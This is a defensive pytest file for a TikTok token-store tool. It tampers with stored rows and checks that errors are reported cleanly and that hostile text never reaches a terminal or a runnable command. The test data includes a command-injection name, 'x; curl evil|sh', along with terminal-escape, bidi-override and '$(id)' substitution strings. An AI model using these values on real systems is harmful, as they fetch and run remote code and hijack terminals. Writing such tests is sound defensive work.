"""A token store that somebody else wrote into, seen by the commands and by a run of the tap."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from tap_tiktok_auth.store.keys import new_key
from tap_tiktok_auth.tap import TapTikTokAuth
from tests.attacks.conftest import command
from tests.attacks.texts import assert_clean

if TYPE_CHECKING:
    from collections.abc import Callable

    from click.testing import Result

    from tests.attacks.conftest import Target

_HOSTILE = "\x1b]0;owned\x07\x1b[31mred\x9b1m\r\nERROR forged\u202egnp\u2066\u200b\x7f $(id) `id`"
_NAME = "x; curl evil|sh"
_PAYLOAD = "SELECT payload FROM connections WHERE name = 'bad'"

#: What was done to the row `bad`, and what is said of it.
_ATTACKS = {
    "unknown key": ("payload = '0123456789abcdef:gAAAA'", "a key that is not there"),
    "no payload": ("payload = X'00'", "is damaged"),
    "another's payload": (f"payload = ({_PAYLOAD.replace('bad', 'good')})", "belongs elsewhere"),
    "expiry": ("access_token_expires_at = 1.0", "was changed"),
    "spent seeds": ("spent_seeds = '[]', seed_hash = '00'", "was changed"),
    "a time that is none": ("verified_at = 'soon'", "is damaged"),
    "a far time": ("last_refreshed_at = 1e300", "is damaged"),
    "a huge count": ("refresh_count = 9e99", "is damaged"),
    "a status that is none": ("status = 'fine\x1b[2J'", "is damaged"),
    "another api": ("api = 'evil\x1b[2J'", "is damaged"),
}


@pytest.fixture
def invaded(target: Target) -> Callable[[str], None]:
    """Return a way to write into a store with the connections `bad` and `good`."""
    for name in ("bad", "good"):
        target.consent(name, left=80_000.0)

    def invade(changes: str) -> None:
        target.sql(f"UPDATE connections SET {changes} WHERE name = 'bad'")

    return invade


def run(target: Target, *arguments: str) -> Result:
    """Run `tiktok-auth` over the store; whatever it says is clean."""
    result = command(target.settings(), *arguments)
    assert_told_well(result.output)
    return result


def assert_told_well(shown: str) -> None:
    """Nothing steers a terminal, forges a line, or is a command of another's making."""
    assert_clean(shown)
    for wrong in ("unexpected", "Traceback", f"auth forget {_NAME}", f"auth login {_NAME}"):
        assert wrong not in shown


def sync(target: Target, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
    """Run the tap; return its exit code and the rows of `token_metadata`, by connection."""
    capsys.readouterr()
    tap = TapTikTokAuth(config=target.settings())
    code = 0
    try:
        tap.complete(tap.sync_all)
    except SystemExit as end:
        code = int(end.code or 0)
    out, err = capsys.readouterr()
    assert_told_well(err)
    messages = [json.loads(line) for line in out.splitlines()]
    records = [m["record"] for m in messages if m["type"] == "RECORD"]
    for record in records:
        assert_told_well("".join(text for text in record.values() if isinstance(text, str)))
    return code, {record["connection"]: record for record in records if "token_state" in record}


@pytest.mark.parametrize(("assignments", "said"), _ATTACKS.values(), ids=_ATTACKS)
def test_one_bad_row_is_its_own_damage(
    target: Target,
    invaded: Callable[[str], None],
    assignments: str,
    said: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Every command serves the others, tells the bad one in one line, and mends it if asked."""
    invaded(assignments)
    code, rows = sync(target, capsys)
    assert (code, rows["good"]["status"]) == (1, "active")
    assert said in rows["bad"]["last_error_message"]

    token = target.record("good").token
    assert token is not None
    assert run(target, "token", "good").stdout.strip() == token.access_token
    assert run(target, "refresh", "good", "--force").exit_code == 0
    for arguments in (["status"], ["refresh"], ["status", "--check"], ["doctor"]):
        result = run(target, *arguments)
        assert result.exit_code == 1, arguments
        assert len([line for line in result.output.splitlines() if said in line]) == 1, arguments
    for arguments in (["token", "bad"], ["status", "bad"], ["revoke", "bad", "--yes"]):
        result = run(target, *arguments)
        assert (result.exit_code, said in result.stderr) == (1, True), arguments

    copy = run(target, "store", "copy", f"sqlite:///{target.folder / 'copy' / 'tokens.db'}")
    assert (copy.exit_code, "copied 1 connection" in copy.stdout) == (1, True)
    assert "bad" in copy.stderr

    assert run(target, "forget", "bad", "--yes").exit_code == 0
    assert run(target, "status").exit_code == 0


@pytest.mark.parametrize("attack", ["unknown key", "no payload"])
def test_the_key_is_changed_around_a_bad_row(
    target: Target, invaded: Callable[[str], None], attack: str
) -> None:
    """`rotate-key` seals all that it can, names what it cannot, keeps that, and exits 1."""
    invaded(_ATTACKS[attack][0])
    before = target.sql(_PAYLOAD)
    former, new = target.key, new_key()
    target.key = f"{new},{former}"
    result = run(target, "store", "rotate-key")
    assert result.exit_code == 1
    assert "1 connection sealed with the new key" in result.stdout
    assert "connection bad:" in result.stderr
    assert "Keep the former keys" in result.stderr
    assert target.sql(_PAYLOAD) == before
    target.key = new
    assert target.record("good").token is not None


def test_texts_of_the_store_are_cleaned_where_they_are_read(
    target: Target, invaded: Callable[[str], None], capsys: pytest.CaptureFixture[str]
) -> None:
    """An error, an event or an ad account's name in the store steers no terminal, log or record."""
    text = "'" + _HOSTILE.replace("'", "''") + "'"
    invaded(
        f"last_error_message = {text}, last_error_at = 1.0, last_error_code = {text},"
        f" request_id = {text}"
    )
    target.sql(
        "INSERT INTO events (event_id, connection, event, occurred_at, error_code, error_message,"
        " host, pid, tap_version, request_id, fingerprint_before)"
        f" VALUES (1, {text}, {text}, 1.0, {text}, {text}, {text}, 1, {text}, {text}, {text})"
    )
    target.sql(
        f"INSERT INTO advertisers VALUES ('good', '7001', {text}, 'advertiser_get', 1.0, 1.0, NULL)"
    )
    for arguments in (["status"], ["events"], ["doctor"], ["refresh"], ["status", "--check"]):
        run(target, *arguments)
    for name in ("status", "events"):
        assert json.loads(run(target, name, "--json").stdout)
    sync(target, capsys)


@pytest.mark.parametrize(
    "sql", [f"'{_NAME}'", "X'6261640A'", "NULL", "'bad' || char(10)", "char(8203) || 'good'", "''"]
)
def test_a_name_that_is_none_is_no_connection(
    target: Target,
    invaded: Callable[[str], None],
    sql: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A row with an impossible name is warned of, and the others are served."""
    invaded(f"name = {sql}")
    code, rows = sync(target, capsys)
    assert (code, [*rows]) == (0, ["good"])
    for arguments in (("status",), ("refresh",), ("doctor",), ("status", "--check")):
        result = run(target, *arguments)
        assert "good" in result.output or "not due" in result.output
    listed = json.loads(run(target, "status", "--json").stdout)
    assert [row["connection"] for row in listed] == ["good"]


@pytest.mark.parametrize("verb", ["token", "status", "refresh", "exec", "revoke", "events"])
@pytest.mark.parametrize("name", [_NAME, "\x1b[31mred", "a b", ".x", "x" * 200])
def test_what_is_no_name_is_not_made_a_command(target: Target, verb: str, name: str) -> None:
    """A NAME that no connection can have is refused, and is in no command to paste."""
    target.consent("good", left=80_000.0)
    more = {"exec": ("--", "no-such-command"), "revoke": ("--yes",)}.get(verb, ())
    result = run(target, verb, name, *more)
    assert (result.exit_code, name in result.output) == (1, False)


@pytest.mark.parametrize("name", [_NAME, "\x1b]0;x\x07bad", "\u202ebad"])
def test_a_row_with_an_impossible_name_can_be_forgotten(
    target: Target, invaded: Callable[[str], None], name: str
) -> None:
    """`forget` deletes just that row, and says so in one clean line."""
    invaded(f"name = '{name}'")
    assert [run(target, "forget", name, "--yes").exit_code for _ in range(2)] == [0, 1]
    assert target.sql("SELECT name FROM connections") == [("good",)]
